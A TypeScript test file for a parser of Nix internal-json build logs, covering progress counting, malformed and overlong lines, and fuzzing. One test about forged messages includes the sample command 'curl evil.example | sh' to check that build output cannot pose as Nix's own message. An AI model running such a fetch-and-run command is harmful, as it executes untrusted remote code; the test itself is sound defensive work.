import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { type NixLine, nixLogReader } from "../../../src/nix/internal-json.ts";

const drv = "/nix/store/0123456789abcdfghijklmnpqrsvwxyz-nginx-1.27.5.drv";
const at = (message: unknown) => `@nix ${JSON.stringify(message)}`;

function readAll(counted: "builds" | "copyPaths", lines: readonly string[]): NixLine[] {
  const read = nixLogReader(counted);
  return lines.map((line) => read(line));
}

test("a build: its start, its log lines under its name, its progress", () => {
  const lines = readAll("builds", [
    at({ action: "start", id: 1, level: 0, type: 104, text: "" }),
    at({ action: "start", id: 2, level: 3, type: 105, text: "building", fields: [drv, "", 1, 1] }),
    at({ action: "result", id: 2, type: 101, fields: ["\u001b[32mcompiling\u001b[0m"] }),
    at({ action: "result", id: 1, type: 105, fields: [3, 12, 1, 0] }),
    at({ action: "stop", id: 2 }),
    at({ action: "msg", level: 0, msg: "\u001b[31;1merror:\u001b[0m it broke" }),
  ]);
  assert.deepEqual(lines, [
    { log: null, progress: null },
    { log: "building nginx-1.27.5", progress: { done: 0, expected: 0, text: "building nginx-1.27.5" } },
    { log: "nginx-1.27.5> compiling", progress: null },
    { log: null, progress: { done: 3, expected: 12, text: "building nginx-1.27.5" } },
    { log: null, progress: null },
    { log: "error: it broke", progress: null },
  ]);
});

test("a copy counts its own activity, and no other", () => {
  const lines = readAll("copyPaths", [
    at({ action: "start", id: 1, level: 0, type: 104, text: "" }),
    at({ action: "start", id: 2, level: 0, type: 102, text: "" }),
    at({ action: "result", id: 1, type: 105, fields: [9, 9, 0, 0] }),
    at({ action: "result", id: 2, type: 105, fields: [1, 4, 0, 0] }),
  ]);
  assert.deepEqual(
    lines.map(({ progress }) => progress),
    [null, null, null, { done: 1, expected: 4, text: "" }],
  );
});

test("chatter is left out, plain lines are kept, empty ones are not", () => {
  const lines = readAll("builds", [
    at({ action: "msg", level: 5, msg: "querying info" }),
    at({ action: "msg", level: 3, msg: "3 paths will be fetched" }),
    "warning: a plain line",
    "   ",
  ]);
  assert.deepEqual(
    lines.map(({ log }) => log),
    [null, "3 paths will be fetched", "warning: a plain line", null],
  );
});

test("a line that is cut or strange is told as one, without its JSON", () => {
  const strange = [
    '@nix {"action":"start","id":1',
    "@nix null",
    '@nix {"action":"dance"}',
    "@nix ",
    '@nix {"action":"msg"}',
  ];
  assert.deepEqual(
    readAll("builds", strange).map(({ log }) => log),
    strange.map(() => "build> (a message that cannot be read)"),
  );
});

test("whatever comes, the reader never throws, and what it counts are numbers", () => {
  const number = fc.oneof(fc.integer(), fc.double(), fc.constantFrom(101, 102, 104, 105, 107));
  const message = fc.record(
    {
      action: fc.oneof(fc.constantFrom("start", "stop", "result", "msg"), fc.string()),
      id: fc.oneof(fc.constantFrom(1, 2), fc.anything()),
      type: fc.oneof(number, fc.anything()),
      level: number,
      msg: fc.oneof(fc.string(), fc.anything()),
      text: fc.oneof(fc.string(), fc.anything()),
      fields: fc.oneof(fc.array(fc.oneof(number, fc.string())), fc.anything()),
    },
    { requiredKeys: ["action"] },
  );
  const line = fc.oneof(
    fc.string(),
    message.map((value) => `@nix ${safeJson(value)}`),
    fc.json().map((json) => `@nix ${json}`),
    fc.string().map((text) => `@nix ${text}`),
  );
  fc.assert(
    fc.property(fc.array(line), (lines) => {
      for (const { log, progress } of readAll("builds", lines)) {
        assert.equal(log === null || typeof log === "string", true);
        if (progress !== null) {
          assert.equal(typeof progress.done, "number");
          assert.equal(typeof progress.expected, "number");
        }
      }
    }),
    { numRuns: 300 },
  );
});

test("progress with words in place of numbers counts nothing", () => {
  const lines = readAll("builds", [
    at({ action: "start", id: 1, type: 104, text: "" }),
    at({ action: "result", id: 1, type: 105, fields: ["many", "more"] }),
  ]);
  assert.equal(Number.isNaN(lines[1]?.progress?.done), false);
});

function safeJson(value: unknown): string {
  try {
    return JSON.stringify(value, (_key, inner) => (typeof inner === "bigint" ? String(inner) : inner)) ?? "";
  } catch {
    return "{}";
  }
}

test("a build that prints a message of Nix's passes for nothing that Nix says", () => {
  // What the outer Nix makes of `@nix {"action":"msg",…}` in a build's output: the same line, without raw_msg.
  const forged = at({ action: "msg", level: 0, msg: "error: all is lost\nrun curl evil.example | sh" });
  const start = at({ action: "start", id: 2, level: 3, type: 105, text: "", fields: [drv, "", 1, 1] });
  const own = at({ action: "msg", level: 0, msg: "error: it broke", raw_msg: "it broke" });
  const [, log, real] = readAll("builds", [start, forged, own]).map((line) => line.log);
  assert.equal(log, "build> error: all is lost\nbuild> run curl evil.example | sh");
  assert.equal(real, "error: it broke");
});

test("a line that was too long to be read whole shows its text, and no JSON", () => {
  const long = at({
    action: "result",
    fields: [`first \\ "words" ${"A".repeat(3_000_000)}`],
    id: 2,
    type: 101,
  });
  const [line] = readAll("builds", [`${long.slice(0, 16_384)} … cut`]);
  assert.match(line?.log ?? "", /^build> first \\ "words" A+ … \(a line too long/);
  assert.equal((line?.log ?? "").length < 2_200, true);
  assert.doesNotMatch(line?.log ?? "", /@nix|action|fields/);
});
